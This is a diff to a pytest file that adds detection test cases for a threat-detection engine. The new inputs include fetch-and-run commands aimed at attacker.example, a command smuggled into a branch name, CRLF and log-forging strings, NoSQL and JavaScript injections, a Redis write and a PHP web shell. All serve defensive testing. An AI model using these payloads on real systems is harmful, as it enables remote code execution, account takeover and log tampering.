@@ -2411,3 +2411,32 @@ def test_filters_name_lines_options_and_kusto(
     engine: DetectionEngine, value: str, flagged: bool
 ) -> None:
     assert engine.detect(value)["is_threat"] is flagged
+
+
+@pytest.mark.parametrize(("value", "flagged"), [
+    # From unseen attack set 21: a dropper after a separator in a message, an evasion inside a
+    # code span, nested encoded breaks, forged log lines, JavaScript spliced into a query in
+    # a sentence, an operator in a CSV cell, a Redis write after CR LF, an operator matching
+    # everything, a web shell pasted into a message.
+    ("My lookup tool shows an error for example.com; curl -s http://attacker.example/p | sh "
+     "# please check", True),
+    ("Build failed again, branch name is `feature/login$(curl${IFS}attacker.example/b|sh)` if "
+     "that helps", True),
+    ("%%0d0d%%0a0aSet-Cookie:%20nested=1", True),
+    ("bob\n[WARN] Password reset for user=ceo@corp.example approved by security-team", True),
+    ("Great post!%0a%0a[2024-06-01 09:00:00] AUDIT: role changed user=mallory role=admin", True),
+    ("Hi, the product search crashes when I type '; return this.isAdmin == true; var d=' into "
+     "it, please fix", True),
+    ('1004,"bob@example.com","{""$gt"":""""}",member', True),
+    ('cart:1234\r\nSET session:admin "{\\"role\\":\\"admin\\"}"\r\n', True),
+    ('Repro steps: POST /login with body {"user":"admin","pass":{"$regex":".*"}} and you are '
+     "logged in as admin.", True),
+    ("Hi support, the uploader rejected my file, here is its content so you can check: <?php "
+     "if(isset($_REQUEST['k'])){echo `{$_REQUEST['k']}`;} ?> thanks", True),
+    # An install guide's download on a line of its own, a sentence quoting a filter.
+    ("## Installation\n\n```bash\ncurl -fsSL https://get.example.dev/install.sh | sh\n```\n\n"
+     "Or download a prebuilt binary from the Releases page.", False),
+    ('In MongoDB I filter with {"age": {"$gt": 30}} and get nothing back', False),
+])
+def test_unseen_set_21_misses(engine: DetectionEngine, value: str, flagged: bool) -> None:
+    assert engine.detect(value)["is_threat"] is flagged
